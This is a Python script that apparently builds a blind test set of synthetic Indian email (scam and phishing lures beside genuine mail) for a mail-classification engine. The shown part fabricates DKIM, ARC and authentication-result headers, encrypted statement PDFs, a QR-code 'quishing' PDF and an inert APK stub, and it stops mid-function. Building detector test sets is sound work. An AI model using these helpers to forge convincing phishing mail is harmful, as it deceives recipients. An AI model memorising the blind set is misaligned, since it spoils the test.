"""Blind set 41: mail received in India in 2024-2026 by consumers, small businesses and employees of Indian
companies, in English, Hindi (Devanagari), Tamil, Telugu, Bengali, Marathi and Hinglish: bank KYC/PAN and reward
lures, UPI refund and cashback scams, Income Tax/GST/EPFO/Aadhaar/DigiLocker notices, electricity-disconnection
callbacks, courier/India Post/FASTag/e-challan lures, "digital arrest" threats, task and stock-group investment scams,
advance-fee lotteries and job fees, HR/Microsoft 365 kits, vendor bank-change BEC and droppers, next to the genuine
bank alerts (password-protected statements), receipts, tax acknowledgements, orders, tickets, job alerts, HR and
personal mail of the same people. Run: cd /work/main && .venv/bin/python samples/tools/build_blind41_samples.py
"""

from __future__ import annotations

import base64
import glob
import hashlib
import os
import struct
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime, parsedate_to_datetime

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message  # noqa: E402

ROOT = os.path.abspath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
N = 41
# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b41-legit-icici-cc-statement": "clean",
    "b41-legit-irctc-eticket": "clean",
    "b41-legit-itd-143-intimation": "clean",
    "b41-legit-msedcl-ebill": "clean",
}
SEED = "blind41-india"

ENTRIES: list[tuple[str, str, str, object]] = []


def entry(stem: str, folder: str, description: str):
    def wrap(fn):
        ENTRIES.append((stem, folder, description, fn))
        return fn
    return wrap


# ---------------------------------------------------------------- deterministic helpers

def hx(tag: str, n: int = 16) -> str:
    out = ""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{SEED}|{tag}|{i}".encode()).hexdigest()
        i += 1
    return out[:n]


def b64(tag: str, n: int = 43) -> str:
    raw = b""
    i = 0
    while len(raw) * 4 // 3 < n + 4:
        raw += hashlib.sha512(f"{SEED}|b64|{tag}|{i}".encode()).digest()
        i += 1
    return base64.b64encode(raw).decode()[:n]


def rsa(tag: str) -> str:
    """A base64 RSA-2048 signature value (256 bytes)."""
    raw = b"".join(hashlib.sha512(f"{SEED}|rsa|{tag}|{i}".encode()).digest() for i in range(4))
    return base64.b64encode(raw).decode()


def sha(tag: str) -> str:
    """A base64 SHA-256 body hash."""
    return base64.b64encode(hashlib.sha256(f"{SEED}|sha|{tag}".encode()).digest()).decode()


def an(tag: str, n: int = 12, alphabet: str = "abcdefghijklmnopqrstuvwxyz0123456789") -> str:
    digest = hashlib.sha256(f"{SEED}|an|{tag}".encode()).digest()
    while len(digest) < n:
        digest += hashlib.sha256(digest).digest()
    return "".join(alphabet[b % len(alphabet)] for b in digest[:n])


B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def digits(tag: str, n: int) -> str:
    return an(tag, n, "0123456789")


def upper(tag: str, n: int) -> str:
    return an(tag, n, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")


def enc(s: str, charset: str = "utf-8") -> str:
    """RFC 2047 B-encode a header value if it is not ASCII, folded into words of at most 75 characters."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        pass
    words = []
    chunk = ""
    label = "UTF-8" if charset == "utf-8" else charset
    for ch in s:
        trial = chunk + ch
        if len(base64.b64encode(trial.encode(charset))) + len(label) + 7 > 75:
            words.append(chunk)
            chunk = ch
        else:
            chunk = trial
    if chunk:
        words.append(chunk)
    return "\n ".join(f"=?{label}?B?{base64.b64encode(w.encode(charset)).decode()}?=" for w in words)


def qenc(s: str) -> str:
    """RFC 2047 Q-encoding (as Outlook writes Latin-heavy subjects)."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        pass
    out = ""
    for b in s.encode("utf-8"):
        c = chr(b)
        if c.isalnum() and b < 128:
            out += c
        elif c == " ":
            out += "_"
        else:
            out += f"={b:02X}"
    words = [out[i:i + 50] for i in range(0, len(out), 50)]
    # do not split inside an =XX escape
    fixed, carry = [], ""
    for w in words:
        w = carry + w
        carry = ""
        cut = w.rfind("=")
        if cut >= len(w) - 2 and cut != -1:
            carry = w[cut:]
            w = w[:cut]
        fixed.append(w)
    if carry:
        fixed.append(carry)
    return "\n ".join(f"=?utf-8?Q?{w}?=" for w in fixed if w)


def addr(name: str, email: str) -> str:
    if not name:
        return email
    try:
        name.encode("ascii")
        if any(c in name for c in ',.;:()<>@"[]'):
            return f'"{name}" <{email}>'
        return f"{name} <{email}>"
    except UnicodeEncodeError:
        return f"{enc(name)} <{email}>"


def fold_b(value: str, first: int = 60, width: int = 70, indent: str = "\t ") -> str:
    parts = [value[:first]]
    rest = value[first:]
    while rest:
        parts.append(rest[:width])
        rest = rest[width:]
    return f"\n{indent}".join(parts)


def dkim_header(d: str, s: str, tag: str, when: datetime, h: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type",
                style: str = "relaxed/relaxed", i: str | None = None) -> str:
    bh = sha("bh" + tag)
    b = rsa("b" + tag)
    ts = int(when.timestamp()) - 3
    ident = f" i={i};" if i else ""
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c={style}; d={d};{ident}\n\ts={s}; t={ts};\n"
            f"\tbh={bh};\n\th={h};\n\tb={fold_b(b)}")


def pacific(dt: datetime) -> str:
    dst = 3 <= dt.month <= 10
    off = timezone(timedelta(hours=-7 if dst else -8))
    return format_datetime(dt.astimezone(off)) + (" (PDT)" if dst else " (PST)")


def ist(dt: datetime) -> str:
    return format_datetime(dt.astimezone(timezone(timedelta(hours=5, minutes=30))))


def utc(dt: datetime) -> str:
    return format_datetime(dt.astimezone(timezone.utc)).replace("-0000", "+0000")


# ---------------------------------------------------------------- receiving providers

def _spf_text_google(res: str, mailfrom: str, ip: str) -> str:
    dom = mailfrom.split("@")[-1]
    if res == "pass":
        return f"(google.com: domain of {mailfrom} designates {ip} as permitted sender)"
    if res == "softfail":
        return f"(google.com: domain of transitioning {mailfrom} does not designate {ip} as permitted sender)"
    if res == "fail":
        return f"(google.com: domain of {mailfrom} does not designate {ip} as permitted sender)"
    if res == "neutral":
        return f"(google.com: {ip} is neither permitted nor denied by best guess record for domain of {mailfrom})"
    return f"(google.com: {dom} does not designate permitted sender hosts)"


def receive(provider: str, *, rcpt: str, mailfrom: str, ip: str, rdns: str, helo: str, when: datetime, spf: str,
            dkim: list[tuple[str, str, str]], dmarc: str, from_domain: str, policy_: str = "none", tag: str = "",
            tls: bool = True, host: str = "") -> list[str]:
    """Headers the receiving side prepends, newest first."""
    t = tag or rcpt + mailfrom
    lines: list[str] = []
    dkim_pass = [d for d in dkim if d[0] == "pass"]
    if provider == "gmail":
        auth = ["mx.google.com;"]
        for res, d, s in dkim:
            auth.append(f"dkim={res} header.i=@{d} header.s={s} header.b={b64('hb' + t + d, 8)};")
        auth.append(f"spf={spf} {_spf_text_google(spf, mailfrom, ip)} smtp.mailfrom={mailfrom if spf != 'none' else mailfrom.split('@')[-1]}")
        if dmarc != "absent":
            pol = policy_.upper()
            dis = "NONE" if dmarc == "pass" or policy_ == "none" else pol
            auth[-1] += ";"
            auth.append(f"dmarc={dmarc} (p={pol} sp={pol} dis={dis}) header.from={from_domain}")
        a_r = "\n       ".join(auth)
        pw = when.astimezone(timezone(timedelta(hours=-7 if 3 <= when.month <= 10 else -8)))
        smtp_id = f"{an(t + 'gid', 13)}si.{digits(t + 'gid2', 3)}.{pw:%Y.%m.%d.%H.%M.%S}"
        lines += [
            f"Delivered-To: {rcpt}",
            f"Received: by 2002:a05:{hx(t + 'r1', 4)}:{hx(t + 'r2', 4)}:b0:{hx(t + 'r3', 3)}:{hx(t + 'r4', 4)}:{hx(t + 'r5', 4)} "
            f"with SMTP id {an(t + 'sid', 10)};\n        {pacific(when + timedelta(seconds=1))}",
            f"X-Google-Smtp-Source: AGHT+I{b64('gss' + t, 80)}",
            f"X-Received: by 2002:a17:90a:{hx(t + 'x1', 4)}:b0:{hx(t + 'x2', 3)}:{hx(t + 'x3', 4)}:{hx(t + 'x4', 4)} "
            f"with SMTP id {an(t + 'xid', 22)}.{digits(t + 'xn', 3)}.{int(when.timestamp())};\n        {pacific(when + timedelta(seconds=1))}",
            f"ARC-Seal: i=1; a=rsa-sha256; t={int(when.timestamp())}; cv=none;\n        d=google.com; s=arc-20240605;\n"
            f"        b={fold_b(rsa('as' + t), 56, 70, '        ')}",
            f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
            f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
            f"        bh={sha('ab' + t)};\n        fh={sha('fh' + t)};\n"
            f"        b={fold_b(rsa('am' + t), 56, 70, '        ')}",
            "ARC-Authentication-Results: i=1; " + a_r,
            f"Return-Path: <{mailfrom}>",
            f"Received: from {helo} ({rdns}. [{ip}])\n        by mx.google.com with {'ESMTPS' if tls else 'ESMTP'} id {smtp_id}\n"
            f"        for <{rcpt}>"
            + ("\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);" if tls else ";")
            + f"\n        {pacific(when)}",
            f"Received-SPF: {spf} {_spf_text_google(spf, mailfrom, ip)} client-ip={ip};",
            "Authentication-Results: " + a_r,
        ]
        return lines
    if provider in ("m365", "outlook"):
        region = "INDPRD01" if provider == "m365" else "NAMPRD11"
        pre = "PN3PR01MB" if provider == "m365" else "SJ0PR11MB"
        fe = "MA0PEPF0000" if provider == "m365" else "CO1PEPF0000"
        box = f"{pre}{digits(t + 'bx', 4)}.{region}.PROD.OUTLOOK.COM"
        edge = f"{fe}{digits(t + 'fe', 4)}{upper(t + 'fe2', 1)}.{region[:3]}PRD{region[6:]}.PROD.OUTLOOK.COM"
        ver = f"15.20.{8000 + int(digits(t + 'v', 3))}.{digits(t + 'v2', 2)}"
        dkim_txt = []
        if not dkim:
            dkim_txt.append("dkim=none (message not signed)\n header.d=none")
        for res, d, s in dkim:
            dkim_txt.append(f"dkim={res} ({'signature was verified' if res == 'pass' else 'body hash did not verify'})\n header.d={d}")
        if dmarc == "pass":
            dm = f"dmarc=pass action=none header.from={from_domain};compauth=pass reason=100"
        elif dmarc in ("none", "absent"):
            dm = f"dmarc=none action=none header.from={from_domain};compauth=softpass reason=201" if dkim_pass or spf == "pass" else \
                f"dmarc=none action=none header.from={from_domain};compauth=fail reason=001"
        elif dmarc == "bestguesspass":
            dm = f"dmarc=bestguesspass action=none header.from={from_domain};compauth=pass reason=109"
        else:
            act = {"reject": "oreject", "quarantine": "quarantine", "none": "none"}[policy_]
            dm = f"dmarc=fail action={act} header.from={from_domain};compauth=fail reason=000"
        mf_dom = mailfrom.split("@")[-1]
        auth = (f"Authentication-Results: spf={spf} (sender IP is {ip})\n smtp.mailfrom={mf_dom}; "
                + ";".join(dkim_txt) + ";" + dm)
        rspf = {"pass": f"Pass (protection.outlook.com: domain of {mf_dom} designates {ip} as permitted sender)",
                "fail": f"Fail (protection.outlook.com: domain of {mf_dom} does not designate {ip} as permitted sender)",
                "softfail": f"SoftFail (protection.outlook.com: domain of transitioning {mf_dom} discourages use of {ip} as permitted sender)",
                "none": f"None (protection.outlook.com: {mf_dom} does not designate permitted sender hosts)",
                "neutral": f"Neutral (protection.outlook.com: {ip} is neither permitted nor denied by domain of {mf_dom})",
                "temperror": f"TempError (protection.outlook.com: error in processing during lookup of {mf_dom})"}[spf]
        scl = "1" if dmarc == "pass" else "5" if dmarc == "fail" else "1"
        lines += [
            f"Received: from {box} (::1) by\n {pre}{digits(t + 'bx2', 4)}.{region}.PROD.OUTLOOK.COM with HTTPS; {utc(when + timedelta(seconds=2))}",
            f"Received: from {edge} (2603:1096:{hx(t + 'v6a', 3)}:{hx(t + 'v6b', 3)}:cafe::{hx(t + 'v6c', 2)}) by {box}\n"
            f" (2603:1096:{hx(t + 'v6d', 3)}:{hx(t + 'v6e', 2)}::{hx(t + 'v6f', 2)}) with Microsoft SMTP Server (version=TLS1_2,\n"
            f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; {utc(when + timedelta(seconds=1))}",
            auth,
            f"Received-SPF: {rspf}\n receiver=protection.outlook.com; client-ip={ip}; helo={helo}; pr=C",
            f"Received: from {helo} ({ip}) by\n {edge} (10.167.{digits(t + 'ip1', 2)}.{digits(t + 'ip2', 2)}) with Microsoft SMTP Server\n"
            f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {ver} via Frontend Transport; {utc(when)}",
            f"X-MS-Exchange-Organization-ExpirationStartTime: {when.astimezone(timezone.utc):%d %b %Y %H:%M:%S.%f}"[:-3] + " Z",
            f"X-MS-Exchange-Organization-Network-Message-Id: {hx(t + 'nm1', 8)}-{hx(t + 'nm2', 4)}-{hx(t + 'nm3', 4)}-{hx(t + 'nm4', 4)}-{hx(t + 'nm5', 12)}",
            "X-MS-Exchange-Organization-AuthSource:\n " + edge,
            "X-MS-Exchange-Organization-AuthAs: Anonymous",
            f"X-MS-Exchange-Organization-SCL: {scl}",
            f"Return-Path: {mailfrom}",
        ]
        return lines
    if provider == "zoho":
        auth = ["mx.zohomail.in;"]
        for res, d, s in dkim:
            auth.append(f"dkim={res}  header.i={d};")
        auth.append(f"spf={spf} (zohomail.in: domain of {mailfrom.split('@')[-1]} "
                    + ("designates" if spf == "pass" else "does not designate") + f" {ip} as permitted sender)  smtp.mailfrom={mailfrom};")
        auth.append(f"dmarc={dmarc}(p={policy_} dis={'none' if dmarc == 'pass' else policy_})  header.from={from_domain}")
        a_r = "\n\t".join(auth)
        lines += [
            f"Delivered-To: {rcpt}",
            f"ARC-Seal: i=1; a=rsa-sha256; t={int(when.timestamp())}; cv=none; \n\td=zohomail.in; s=zohoarc; \n"
            f"\tb={fold_b(rsa('zs' + t), 56, 70, chr(9))}",
            f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.in; s=zohoarc; \n"
            f"\tt={int(when.timestamp())}; h=Content-Type:Date:From:MIME-Version:Message-ID:Subject:To; \n"
            f"\tbh={sha('zb' + t)}; \n\tb={fold_b(rsa('zm' + t), 56, 70, chr(9))}",
            "ARC-Authentication-Results: i=1; " + a_r,
            f"Received: from {helo} ({rdns} [{ip}]) by mx.zohomail.in\n\twith SMTPS id {int(when.timestamp())}{digits(t + 'zid', 3)}"
            f"{digits(t + 'zid2', 6)}.{digits(t + 'zid3', 5)}; {pacific(when)}",
            f"Return-Path: <{mailfrom}>",
            "Authentication-Results: " + a_r,
            "X-Zoho-Virus-Status: 1",
            "X-ZohoMail-DKIM: " + ("pass" if dkim_pass else "fail" if dkim else "none"),
        ]
        return lines
    if provider == "rediff":
        dk = " ".join(f"dkim={res} header.d={d} header.s={s};" for res, d, s in dkim) or "dkim=none;"
        lines += [
            f"Return-Path: <{mailfrom}>",
            f"Received: from {helo} ({rdns} [{ip}])\n\tby mx{digits(t + 'rmx', 1)}.rediffmail.com (8.14.7/8.14.7) with ESMTP id "
            f"{upper(t + 'rid', 14)}\n\tfor <{rcpt}>; {ist(when)}",
            f"Authentication-Results: rediffmail.com; spf={spf} smtp.mailfrom={mailfrom}; {dk} dmarc={dmarc} header.from={from_domain}",
            f"X-Rediff-Spam-Score: {'0' if dmarc == 'pass' else '2'}",
        ]
        return lines
    if provider == "postfix":
        mx = host
        qid = upper(t + "pq", 11)
        qid2 = upper(t + "pq2", 11)
        ver = "" if not tls else ("\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
                                  "\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
                                  "\t(No client certificate requested)")
        lines += [
            f"Return-Path: <{mailfrom}>",
            f"X-Original-To: {rcpt}",
            f"Delivered-To: {rcpt}",
            f"Received: from localhost (localhost [127.0.0.1])\n\tby {mx} (Postfix) with ESMTP id {qid2}\n\tfor <{rcpt}>; {ist(when + timedelta(seconds=2))}",
            f"X-Virus-Scanned: Debian amavis at {mx}",
        ]
        for res, d, s in dkim:
            lines.append(f"Authentication-Results: {mx};\n\tdkim={res} (2048-bit key; unprotected) header.d={d} header.i=@{d}\n"
                         f"\theader.a=rsa-sha256 header.s={s} header.b={b64('pb' + t + d, 8)}")
        if dmarc != "absent":
            lines.append(f"Authentication-Results: {mx}; dmarc={dmarc} (p={policy_} dis={'none' if dmarc == 'pass' else policy_}) header.from={from_domain}")
        lines.append(f"Authentication-Results: {mx}; spf={spf} smtp.mailfrom={mailfrom}")
        lines.append(f"Received-SPF: {spf.capitalize()} (mailfrom) identity=mailfrom; client-ip={ip}; helo={helo}; "
                     f"envelope-from={mailfrom}; receiver=<UNKNOWN>")
        lines.append(f"Received: from {helo} ({rdns} [{ip}]){ver}\n\tby {mx} (Postfix) with {'ESMTPS' if tls else 'ESMTP'} id {qid}\n"
                     f"\tfor <{rcpt}>; {ist(when)}")
        return lines
    raise ValueError(provider)


def assemble(*, provider: str, rcpt: str, mailfrom: str, ip: str, rdns: str, helo: str, spf: str, dmarc: str,
             head: str, body, dkim: list[tuple[str, str, str]] = (), policy_: str = "none", hops: list[str] = (),
             delay: int = 6, sign_h: str | None = None, host: str = "", tls: bool = True, from_domain: str = "") -> bytes:
    """``head`` holds the message's own headers (From, To, Subject, Date, Message-ID, ...), as the sender wrote them."""
    date_line = [l for l in head.split("\n") if l.startswith("Date: ")][0]
    sent = parsedate_to_datetime(date_line[6:].strip())
    when = sent + timedelta(seconds=delay)
    from_line = [l for l in head.split("\n") if l.startswith("From: ")][0]
    fd = from_domain or from_line.rsplit("@", 1)[-1].strip(" >")
    tag = hx(head, 12)
    top = receive(provider, rcpt=rcpt, mailfrom=mailfrom, ip=ip, rdns=rdns, helo=helo, when=when, spf=spf,
                  dkim=list(dkim), dmarc=dmarc, from_domain=fd, policy_=policy_, tag=tag, host=host, tls=tls)
    sigs = []
    for res, d, s in dkim:
        kwargs = {"h": sign_h} if sign_h else {}
        sigs.append(dkim_header(d, s, tag + d + s, sent, **kwargs))
    mid = sent + timedelta(seconds=max(1, delay // 2))
    hop_lines = [h.replace("{T}", ist(mid)).replace("{P}", pacific(mid)).replace("{U}", format_datetime(mid.astimezone(timezone.utc)).replace("-0000", "+0000"))
                 for h in hops]
    return message("\n".join(top + hop_lines + sigs) + "\n" + head.strip("\n"), body)


# ---------------------------------------------------------------- body helpers

def leaf_text(content: str, subtype: str = "plain", encoding: str = "quoted-printable", charset: str = "utf-8",
              upper_cs: bool = False) -> Leaf:
    cs = charset.upper() if upper_cs else charset
    return Leaf(f"text/{subtype}", content.encode(charset), encoding, f'; charset="{cs}"')


def alt(boundary: str, plain: str, html: str, encoding: str = "quoted-printable", upper_cs: bool = False,
        charset: str = "utf-8") -> Multi:
    return Multi("alternative", boundary, [leaf_text(plain, "plain", encoding, charset, upper_cs),
                                           leaf_text(html, "html", encoding, charset, upper_cs)])


def gmail_boundary(tag: str) -> str:
    return "000000000000" + hx("gb" + tag, 12)


def outlook_boundary(tag: str, box: str = "PN3PR01MB", region: str = "INDPRD01PROD") -> str:
    return f"_000_{box}{digits(tag, 4)}{upper(tag + 'o', 8)}{region}_"


def html_page(inner: str, title: str = "", lang: str = "en", style: str = "") -> str:
    return (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta charset="utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>{title}</title>\n'
            + (f"<style>{style}</style>\n" if style else "") + f"</head>\n<body>\n{inner}\n</body>\n</html>\n")


def gmail_html(paragraphs: list[str]) -> str:
    return '<div dir="ltr">' + "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paragraphs) + "</div>\n"


def outlook_html(paragraphs: list[str], font: str = "Calibri") -> str:
    body = "".join(f'<p class="MsoNormal">{p or "&nbsp;"}<o:p></o:p></p>\n' for p in paragraphs)
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            f'p.MsoNormal, li.MsoNormal, div.MsoNormal {{margin:0cm; font-size:11.0pt; font-family:"{font}",sans-serif;}}\n'
            'a:link, span.MsoHyperlink {mso-style-priority:99; color:#0563C1; text-decoration:underline;}\n'
            '--></style>\n</head>\n<body lang="EN-IN" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n'
            f'<div class="WordSection1">\n{body}</div>\n</body>\n</html>\n')


def strip_tags(html: str) -> str:
    import re
    text_ = re.sub(r"(?is)<(style|script|head)[^>]*>.*?</\1>", "", html)
    text_ = re.sub(r"(?i)<br\s*/?>", "\n", text_)
    text_ = re.sub(r"(?i)</td>", " ", text_)
    text_ = re.sub(r"(?i)</(p|div|tr|h\d|li|table)>", "\n", text_)
    text_ = re.sub(r"<[^>]+>", "", text_)
    import html as _html
    text_ = _html.unescape(text_.replace("&nbsp;", " ")).replace("\u2192", "->").replace("\xa0", " ")
    lines = [l.strip() for l in text_.split("\n")]
    out, blank = [], False
    for l in lines:
        if not l:
            if not blank and out:
                out.append("")
            blank = True
        else:
            out.append(l)
            blank = False
    return "\n".join(out).strip() + "\n"


# ---------------------------------------------------------------- attachment helpers

def _rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    i = j = 0
    out = bytearray()
    for b in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(b ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def encrypted_pdf(lines: list[str], user_pw: str, owner_pw: str, producer: str, tag: str) -> bytes:
    """A one-page PDF protected with a user password (Standard security handler, RC4 128-bit, R3),
    as bank statement generators write them."""
    doc_id = hashlib.md5(f"{SEED}{tag}".encode()).digest()
    upw = (user_pw.encode("latin-1") + _PAD)[:32]
    opw = (owner_pw.encode("latin-1") + _PAD)[:32]
    okey = hashlib.md5(opw).digest()
    for _ in range(50):
        okey = hashlib.md5(okey).digest()
    o_val = _rc4(okey, upw)
    for i in range(1, 20):
        o_val = _rc4(bytes(b ^ i for b in okey), o_val)
    perms = -3904
    key = hashlib.md5(upw + o_val + struct.pack("<i", perms) + doc_id).digest()
    for _ in range(50):
        key = hashlib.md5(key).digest()
    u_val = _rc4(key, hashlib.md5(_PAD + doc_id).digest())
    for i in range(1, 20):
        u_val = _rc4(bytes(b ^ i for b in key), u_val)
    u_val += b"\x00" * 16

    def objkey(num: int) -> bytes:
        return hashlib.md5(key + struct.pack("<I", num)[:3] + b"\x00\x00").digest()[:16]

    content = ["BT", "/F1 10 Tf", "13 TL", "50 790 Td"]
    for line in lines:
        content.append("(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj T*")
    content.append("ET")
    stream = zlib.compress("\n".join(content).encode("latin-1"), 9)
    stream_enc = _rc4(objkey(5), stream)
    prod_enc = _rc4(objkey(6), producer.encode("latin-1")).hex()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(stream_enc)).encode() + b" /Filter /FlateDecode >>\nstream\n" + stream_enc + b"\nendstream",
        f"<< /Producer <{prod_enc}> >>".encode(),
        (b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P " + str(perms).encode() + b" /O <" + o_val.hex().encode()
         + b"> /U <" + u_val.hex().encode() + b"> >>"),
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    idh = doc_id.hex().upper()
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R /Info 6 0 R /Encrypt 7 0 R /ID [<{idh}> <{idh}>] >>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return bytes(out)


def qr_pdf(lines: list[str], url: str, title: str) -> bytes:
    """A one-page PDF with text and a QR code image of ``url`` (no link annotation), as quishing PDFs are."""
    import segno

    qr = segno.make(url, error="m", micro=False)
    matrix = [list(row) for row in qr.matrix]
    scale, border = 4, 4
    size = (len(matrix) + 2 * border) * scale
    raw = bytearray()
    for y in range(size):
        my = y // scale - border
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
            raw.append(0 if dark else 255)
    image = zlib.compress(bytes(raw), 9)
    content = ["BT", "/F1 12 Tf", "16 TL", "60 780 Td"]
    for line in lines:
        content.append("(" + line.replace("(", "\\(").replace(")", "\\)") + ") Tj T*")
    content.append("ET")
    content.append(f"q 180 0 0 180 207 330 cm /Im1 Do Q")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, size, size, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer (iLovePDF) /CreationDate (D:20250611101500+05'30') >>".encode())
    return files.pdf_file(objects, len(objects))


def apk(package: str, label: str) -> bytes:
    """An inert Android package: zip with a binary-XML manifest header, a dex header and signing files."""
    manifest = b"\x03\x00\x08\x00" + struct.pack("<I", 1800) + package.encode("utf-16-le").ljust(1792, b"\x00")
    dex = b"dex\n035\x00" + hashlib.sha1(package.encode()).digest() + b"\x00" * 84 + label.encode()
    return files.zip_archive([
        ("AndroidManifest.xml", manifest),
        ("classes.dex", dex),
        ("resources.arsc", b"\x02\x00\x0c\x00" + b"\x00" * 60),
        ("res/drawable/ic_launcher.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40),
        ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nCreated-By: 1.0 (Android)\r\n\r\n"),
        ("META-INF/CERT.SF", b"Signature-Version: 1.0\r\nCreated-By: 1.0 (Android)\r\n\r\n"),
        ("META-INF/CERT.RSA", b"\x30\x82\x03\x00" + b"\x00" * 60),
    ])


def jpeg(seed: int) -> bytes:
    return files.photo_jpeg(seed)


# ---------------------------------------------------------------- sender-side helpers

def gmail_msgid(tag: str) -> str:
    return "<CA" + an(tag + "g1", 1, "BCDEFGHJKLMNPQRSTUVWXYZ") + b64(tag + "gm", 42).replace("/", "_").replace("+", "-") + "@mail.gmail.com>"


def gmail_head(from_: str, to: str, subject: str, date: str, tag: str, cc: str = "", extra: str = "",
               in_reply: str = "") -> str:
    """Headers of a message written in Gmail (web or app), in Gmail's order, after its DKIM-Signature."""
    lines = [
        "X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t="
        + str(int(parsedate_to_datetime(date).timestamp())) + ";\n        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n"
        f"         :from:to:cc:subject:date:message-id:reply-to;\n        bh={sha('xgb' + tag)};\n"
        f"        b={fold_b(rsa('xgs' + tag), 56, 70, '        ')}",
        f"X-Gm-Message-State: AOJu0Y{b64('gms' + tag, 62)}",
        f"X-Google-Smtp-Source: AGHT+IF{b64('gss2' + tag, 78)}",
        f"X-Received: by 2002:a17:902:{hx(tag + 'q', 4)}:b0:{hx(tag + 'q2', 3)}:{hx(tag + 'q3', 4)}:{hx(tag + 'q4', 4)} with SMTP id "
        f"d9443c01a7336-{hx(tag + 'q5', 10)}.{digits(tag + 'q6', 2)}.{int(parsedate_to_datetime(date).timestamp())};\n        "
        + pacific(parsedate_to_datetime(date) + timedelta(seconds=1)),
        "MIME-Version: 1.0",
    ]
    if in_reply:
        lines.append(f"References: {in_reply}")
        lines.append(f"In-Reply-To: {in_reply}")
    lines += [f"From: {from_}", f"Date: {date}", f"Message-ID: {gmail_msgid(tag)}", f"Subject: {subject}", f"To: {to}"]
    if cc:
        lines.append(f"Cc: {cc}")
    if extra:
        lines.append(extra)
    return "\n".join(lines)


GMAIL_OUT = "20230601"


def gmail_conn(tag: str) -> tuple[str, str, str]:
    """(ip, rdns, helo) of a Gmail outbound server."""
    pool = ["209.85.220.41", "209.85.220.65", "209.85.220.69", "209.85.220.73", "209.85.220.41"]
    ip = pool[int(digits(tag + "gc", 2)) % len(pool)]
    last = ip.split(".")[-1]
    kinds = ["pj1", "pl1", "qk1", "ot1", "yb1"]
    rdns = f"mail-sor-f{last}.google.com"
    return ip, rdns, rdns if int(last) % 2 else f"mail-{kinds[int(last) % 5]}-f{last}.google.com"


def outlook_sender(tag: str) -> tuple[list[str], str, str, str, str]:
    """An Outlook.com consumer mailbox (APAC): (hops, ip, rdns, helo, message-id)."""
    box = f"SEZPR06MB{digits(tag + 'ob', 4)}"
    host = f"{box}.apcprd06.prod.outlook.com"
    ip = f"40.92.{52 + int(digits(tag + 'oi', 1)) % 4}.{int(digits(tag + 'oj', 3)) % 250 + 2}"
    rdns = f"mail-sgaapc01olkn{digits(tag + 'on', 4)}.outbound.protection.outlook.com"
